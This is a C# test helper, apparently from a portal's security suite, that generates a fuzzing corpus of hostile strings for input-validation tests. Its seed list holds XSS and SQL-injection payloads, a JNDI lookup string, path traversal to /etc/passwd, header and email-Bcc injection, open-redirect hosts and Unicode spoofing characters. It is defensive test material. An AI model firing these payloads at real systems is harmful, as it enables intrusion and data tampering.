namespace LockboxPortal.Tests.Security;

/// <summary>
/// A generated corpus of hostile text: over-long values, control characters, Unicode confusables and
/// direction overrides, script and markup, SQL and LIKE fragments, path and header tricks, malformed GUIDs,
/// ticket numbers and Azure resource ids — each seed in several shapes.
/// </summary>
public static class HostileInput
{
    private static readonly string[] Seeds =
    [
        "", " ", "\t", "\r\n", "\0", "a", "null", "undefined", "NaN", "-1", "0", "99999999999999999999",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "<svg/onload=alert(1)>",
        "{{7*7}}", "${jndi:ldap://x/a}", "@(1+1)", "<!--", "]]>", "&lt;b&gt;", "%3Cscript%3E",
        "' OR '1'='1", "'; DROP TABLE AccessRequests;--", "\" OR 1=1 --", "1; SELECT * FROM sqlite_master", "%", "_", "\\", "[%]", "%%%%",
        "../../etc/passwd", "..\\..\\windows\\win.ini", "/\\evil.example.com", "//evil.example.com", "https://evil.example.com/",
        "line1\r\nX-Injected: yes", "line\nINFO forged log entry", "bell\a", "esc\u001b[31mred", "del\u007f", "\u0085next", "\u2028sep\u2029",
        "\u202eevil.exe\u202dgpj", "\u200b\u200c\u200d\ufeff", "Аdmin", "раураl", "Ｃａｒｏｌ", "ﬁ", "I\u0307", "e\u0301\u0301\u0301", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "😀🔒",
        "\ud800", "\udfff", "\uffff", "\ufffd",
        "00000000-0000-0000-0000-000000000000", "c0a7050c-0000-4000-8000-000000000001", "{c0a7050c-0000-4000-8000-000000000001}",
        "c0a7050c00004000800000000000000g", "c0a7050c-0000-4000-8000-00000000000", "c0a7050c-0000-4000-8000-0000000000011", "g0a7050c-0000-4000-8000-000000000001",
        "2611280010001234", "261128001000123", "26112800100012345", "２６１１２８００１０００１２３４", "2611280010001234\n", " 2611280010001234",
        "/subscriptions/", "/subscriptions/3f2a1c4e-8b7d-4e6f-9a0b-1c2d3e4f5a6b/resourceGroups/", "/subscriptions/3f2a1c4e-8b7d-4e6f-9a0b-1c2d3e4f5a6b/resourceGroups/rg.",
        "/subscriptions/3f2a1c4e-8b7d-4e6f-9a0b-1c2d3e4f5a6b/resourceGroups/rg/providers/x", "/subscriptions/3f2a1c4e-8b7d-4e6f-9a0b-1c2d3e4f5a6b/resourceGroups/" + new string('a', 91),
        "/subscriptions/3f2a1c4e-8b7d-4e6f-9a0b-1c2d3e4f5a6b/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/" + new string('v', 300),
        "/subscriptions/../resourceGroups/rg", "/SUBSCRIPTIONS/3F2A1C4E-8B7D-4E6F-9A0B-1C2D3E4F5A6B/RESOURCEGROUPS/RG",
        "carol", "CAROL", "carol ", "carol\0", "mia", "a@b.c", "a@b", "\"a b\"@example.com", "a@example.com\r\nBcc: x@evil.com", "a@exa mple.com",
        "name <a@example.com>", "a@example.com, b@example.com",
    ];

    /// <summary>Each seed as is, padded into a sentence, repeated to several lengths, and wrapped in control characters.</summary>
    public static IEnumerable<string> Corpus()
    {
        foreach (var seed in Seeds)
        {
            yield return seed;
            yield return $"Need access because {seed} broke the cluster.";
            yield return seed + seed;
            yield return "\u0001" + seed + "\u0002";
            yield return seed.ToUpperInvariant();
            foreach (var length in new[] { 201, 2001, 70_000 })
                yield return Repeat(seed.Length == 0 ? "x" : seed, length);
        }
        var random = new Random(8);
        for (var i = 0; i < 60; i++)
        {
            var chars = new char[random.Next(1, 300)];
            for (var j = 0; j < chars.Length; j++) chars[j] = (char)random.Next(0, 0x3000);
            yield return new string(chars);
        }
    }

    private static string Repeat(string s, int length)
    {
        var sb = new System.Text.StringBuilder(length + s.Length);
        while (sb.Length < length) sb.Append(s);
        return sb.ToString(0, length);
    }
}
